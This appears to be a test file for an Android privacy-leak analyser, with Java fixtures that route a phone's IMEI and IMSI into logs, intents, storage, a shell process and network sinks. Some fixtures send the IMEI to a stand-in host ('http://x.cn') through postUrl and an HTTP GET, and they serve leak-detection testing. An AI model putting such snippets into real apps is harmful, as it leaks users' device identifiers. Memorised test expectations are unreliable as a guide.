import { describe, expect, test } from 'vitest';
import { flowsIn, IMEI, IMSI, main, PRINTED } from '../made-flows.contract.ts';

const NOTHING: readonly string[] = [];
const create = 'protected void onCreate(Bundle b) { super.onCreate(b);';
const id = (context: string) => `((TelephonyManager) ${context}.getSystemService("phone")).getDeviceId()`;
const flow = (from: string, to: string, sink = 'd') => [`getDeviceId ${from} > ${sink} ${to}`];

type Row = readonly [name: string, java: string, expected: readonly string[], manifest?: Parameters<typeof flowsIn>[1]];
const all = (rows: readonly Row[]) => {
  for (const [name, java, expected, manifest] of rows) test(name, () => expect(flowsIn(java, manifest)).toEqual(expected));
};

describe('who gets an intent', () => {
  const show = (name: string, action: string) => ({
    name,
    exported: true,
    filters: [{ actions: [action], categories: ['android.intent.category.DEFAULT'] }],
  });
  const printer = (name: string, level: string) =>
    `class ${name} extends Activity { ${create} Log.${level}("t", getIntent().getStringExtra("k")); } }`;
  all([
    [
      'one of two own screens by chance',
      `${main(`Intent i = new Intent(Math.random() > 0.5 ? "a.one" : "a.two"); i.putExtra("k", ${IMEI}); startActivity(i);`)} ${printer('One', 'd')} ${printer('Two', 'e')}`,
      [...flow('MainActivity.onCreate', 'One.onCreate'), ...flow('MainActivity.onCreate', 'Two.onCreate', 'e')],
      { activities: [show('.One', 'a.one'), show('.Two', 'a.two')] },
    ],
    [
      'a screen that takes what it is given and does nothing',
      `${main(`Intent i = new Intent("a.one"); i.putExtra("k", ${IMEI}); startActivity(i);`)} class One extends Activity { }`,
      NOTHING,
      { activities: [show('.One', 'a.one')] },
    ],
    [
      'a screen whose class is not there',
      main(`Intent i = new Intent(); i.setClassName("x.y", "x.y.Z"); i.putExtra("k", ${IMEI}); startActivity(i);`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'startActivity'),
    ],
    [
      'a service of somebody else',
      main(`Intent i = new Intent("x.S"); i.setPackage("x.y"); i.putExtra("k", ${IMEI}); startService(i);`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'startService'),
    ],
    [
      'an action that is typed',
      `${main(`EditText e = (EditText) findViewById(3); Intent i = new Intent(e.getText().toString()); i.putExtra("k", ${IMEI}); startActivity(i);`)}`,
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'startActivity'),
    ],
    [
      'an action that is typed, with a screen that could have it',
      `${main(`EditText e = (EditText) findViewById(3); Intent i = new Intent(e.getText().toString()); i.putExtra("k", ${IMEI}); startActivity(i);`)} ${printer('One', 'd')}`,
      [...flow('MainActivity.onCreate', 'MainActivity.onCreate', 'startActivity'), ...flow('MainActivity.onCreate', 'One.onCreate')],
      { activities: [show('.One', 'a.one')] },
    ],
    [
      'to a fragment by its arguments',
      `class F extends Fragment { public View onCreateView(LayoutInflater i, ViewGroup g, Bundle b) { Log.d("t", getArguments().getString("k")); return null; } static F of(String s) { F f = new F(); Bundle b = new Bundle(); b.putString("k", s); f.setArguments(b); return f; } } ${main(`getFragmentManager().beginTransaction().add(3, F.of(${IMEI})).commit();`)}`,
      flow('MainActivity.onCreate', 'F.onCreateView'),
    ],
    [
      'a fragment that calls its screen through an interface',
      `interface Hear { void hear(String s); } class F extends Fragment { Hear h; public void onAttach(Activity a) { super.onAttach(a); h = (Hear) a; } public void onResume() { super.onResume(); h.hear(${id('getActivity()')}); } } class MainActivity extends Activity implements Hear { ${create} getFragmentManager().beginTransaction().add(3, new F()).commit(); } public void hear(String s) { Log.d("t", s); } }`,
      flow('F.onResume', 'MainActivity.hear'),
    ],
    [
      'a notification that opens a screen',
      `${main(`Intent i = new Intent(this, One.class); i.putExtra("k", ${IMEI}); Notification n = new Notification$Builder(this).setContentIntent(PendingIntent.getActivity(this, 0, i, 0)).build(); ((NotificationManager) getSystemService("notification")).notify(3, n);`)} ${printer('One', 'd')}`,
      flow('MainActivity.onCreate', 'One.onCreate'),
      { activities: ['.One'] },
    ],
  ]);
});

describe('stores and views', () => {
  all([
    [
      'two files of preferences',
      main(
        `getSharedPreferences("a", 0).edit().putString("k", ${IMEI}).commit(); Log.d("t", getSharedPreferences("b", 0).getString("k", ""));`,
      ),
      NOTHING,
    ],
    [
      'preferences written over',
      main(
        `SharedPreferences p = getSharedPreferences("a", 0); p.edit().putString("k", ${IMEI}).commit(); p.edit().putString("k", "x").commit(); Log.d("t", p.getString("k", ""));`,
      ),
      NOTHING,
    ],
    [
      'preferences taken out',
      main(
        `SharedPreferences p = getSharedPreferences("a", 0); p.edit().putString("k", ${IMEI}).commit(); p.edit().remove("k").commit(); Log.d("t", p.getString("k", ""));`,
      ),
      NOTHING,
    ],
    [
      'all preferences',
      main(
        `SharedPreferences p = getSharedPreferences("a", 0); p.edit().putString("k", ${IMEI}).commit(); Log.d("t", p.getAll().toString());`,
      ),
      PRINTED,
    ],
    [
      'a file by a path',
      main(
        `File f = new File(getFilesDir(), "x.txt"); FileWriter w = new FileWriter(f); w.write(${IMEI}); w.close(); BufferedReader r = new BufferedReader(new FileReader("/data/x.txt")); Log.d("t", r.readLine());`,
      ),
      [...flow('MainActivity.onCreate', 'MainActivity.onCreate', 'write'), ...PRINTED],
    ],
    [
      'a row of a data base',
      main(
        `SQLiteDatabase d = openOrCreateDatabase("x", 0, null); ContentValues v = new ContentValues(); v.put("k", ${IMEI}); d.insert("t", null, v); Cursor c = d.query("t", null, null, null, null, null, null); c.moveToFirst(); Log.d("t", c.getString(0));`,
      ),
      PRINTED,
    ],
    [
      'a text that one view shows, asked of the same view',
      main(`TextView v = (TextView) findViewById(3); v.setText(${IMEI}); Log.d("t", v.getText().toString());`),
      PRINTED,
    ],
    [
      'a text that one view shows, asked of another',
      main(
        `TextView v = (TextView) findViewById(3); v.setText(${IMEI}); TextView w = (TextView) findViewById(4); Log.d("t", w.getText().toString());`,
      ),
      NOTHING,
    ],
    [
      'a text shown, asked on another screen',
      `${main(`((TextView) findViewById(3)).setText(${IMEI});`)} class One extends Activity { ${create} Log.d("t", "" + ((TextView) findViewById(9)).getText()); } }`,
      NOTHING,
      { activities: ['.One'] },
    ],
    [
      'the clipboard',
      main(`ClipboardManager c = (ClipboardManager) getSystemService("clipboard"); c.setPrimaryClip(ClipData.newPlainText("x", ${IMEI}));`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'setPrimaryClip'),
    ],
    [
      'a page with a form',
      main(`WebView w = new WebView(this); w.postUrl("http://x.cn", ${IMEI}.getBytes());`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'postUrl'),
    ],
    [
      'a page',
      main(`WebView w = new WebView(this); w.loadData("<b>" + ${IMEI} + "</b>", "text/html", null);`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'loadData'),
    ],
    [
      'a client that is an own one',
      `class C extends DefaultHttpClient { } ${main(`new C().execute(new HttpGet("http://x.cn/?i=" + ${IMEI}));`)}`,
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'execute'),
    ],
    [
      'two sources at one place of two objects',
      main(`String[] a = new String[] { ${IMEI}, ${IMSI} }; for (String s : a) { Log.d("t", s); }`),
      ['getDeviceId MainActivity.onCreate > d MainActivity.onCreate', 'getSubscriberId MainActivity.onCreate > d MainActivity.onCreate'],
    ],
    [
      'a wrapper around the log',
      `class L { static void out(String s) { Log.d("t", s); } } ${main(`L.out(${IMEI}); L.out("x");`)}`,
      flow('MainActivity.onCreate', 'L.out'),
    ],
    [
      'a wrapper around the source, called for two sinks',
      main('Log.d("t", get()); Log.e("t", get());', `String get() { return ${IMEI}; }`),
      [...flow('MainActivity.get', 'MainActivity.onCreate'), ...flow('MainActivity.get', 'MainActivity.onCreate', 'e')],
    ],
    [
      'a process and its way in',
      main(
        `Process p = Runtime.getRuntime().exec("sh"); DataOutputStream o = new DataOutputStream(p.getOutputStream()); o.writeBytes(${IMEI});`,
      ),
      NOTHING,
    ],
    [
      'a stream of unknown kind',
      main(`OutputStream o = getContentResolver().openOutputStream(Uri.parse("content://x/y")); o.write(${IMEI}.getBytes());`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'write'),
    ],
  ]);
});

describe('what looks the same and is not', () => {
  all([
    ['the length', main(`Log.d("t", "" + ${IMEI}.length());`), NOTHING],
    ['whether it is there', main(`Log.d("t", "" + (${IMEI} != null));`), NOTHING],
    ['whether it is the same', main(`Log.d("t", "" + ${IMEI}.equals("x"));`), NOTHING],
    [
      'a number of the same service that is nothing personal',
      main('TelephonyManager t = (TelephonyManager) getSystemService("phone"); t.getDeviceId(); Log.d("t", "" + t.getSimState());'),
      NOTHING,
    ],
    [
      'the service itself',
      main('TelephonyManager t = (TelephonyManager) getSystemService("phone"); t.getDeviceId(); Log.d("t", t.toString());'),
      NOTHING,
    ],
    ['a log of the tag only', main(`String s = ${IMEI}; Log.d("t", "not " + "there");`), NOTHING],
    ['the tag is it', main(`Log.d(${IMEI}, "x");`), PRINTED],
    [
      'an own method called Log.d',
      `class Log2 { static int d(String t, String s) { return 0; } } ${main(`Log2.d("t", ${IMEI});`)}`,
      NOTHING,
    ],
    [
      'an own class with a method called as a source',
      `class T { String getDeviceId() { return "x"; } } ${main('Log.d("t", new T().getDeviceId());')}`,
      NOTHING,
    ],
    [
      'the screen that holds it in a field',
      `class MainActivity extends Activity { String s; ${create} s = ${IMEI}; Log.d("t", "" + this); } }`,
      NOTHING,
    ],
    [
      'an own object with its own text',
      `class A { String s; public String toString() { return "A"; } } ${main(`A a = new A(); a.s = ${IMEI}; Log.d("t", "" + a);`)}`,
      NOTHING,
    ],
    [
      'an own object whose text it is',
      `class A { String s; public String toString() { return s; } } ${main(`A a = new A(); a.s = ${IMEI}; Log.d("t", "" + a);`)}`,
      PRINTED,
    ],
  ]);
});

test('a service that a helper of the support library starts', () => {
  const start = (intent: string) => main(`Intent i = ${intent}; i.putExtra("k", ${IMEI}); ContextCompat.startForegroundService(this, i);`);
  const service =
    'class S extends Service { public IBinder onBind(Intent i) { return null; } public int onStartCommand(Intent i, int f, int n) { Log.d("t", i.getStringExtra("k")); return 1; } }';
  expect(flowsIn(start('new Intent("a.away")'))).toEqual(flow('MainActivity.onCreate', 'MainActivity.onCreate', 'startForegroundService'));
  expect(flowsIn(`${start('new Intent(this, S.class)')} ${service}`, { services: ['.S'] })).toEqual(
    flow('MainActivity.onCreate', 'S.onStartCommand'),
  );
});

test('an SDK gets what it is given, not what a listener of the app holds', () => {
  const sdk =
    'package cn.seller; interface Listener { void done(); } class Client { static void add(Listener l) { } static void tell(Object o) { } }';
  const heard = `class Heard implements Listener { String id; public void done() { id = null; } } ${main(`Heard h = new Heard(); h.id = ${IMEI}; Client.add(h);`)} ${sdk}`;
  const told = `class User { String id; } ${main(`User u = new User(); u.id = ${IMEI}; Client.tell(u);`)} ${sdk}`;
  expect(flowsIn(heard)).toEqual(NOTHING);
  expect(flowsIn(told)).toEqual(flow('MainActivity.onCreate', 'MainActivity.onCreate', 'tell'));
});
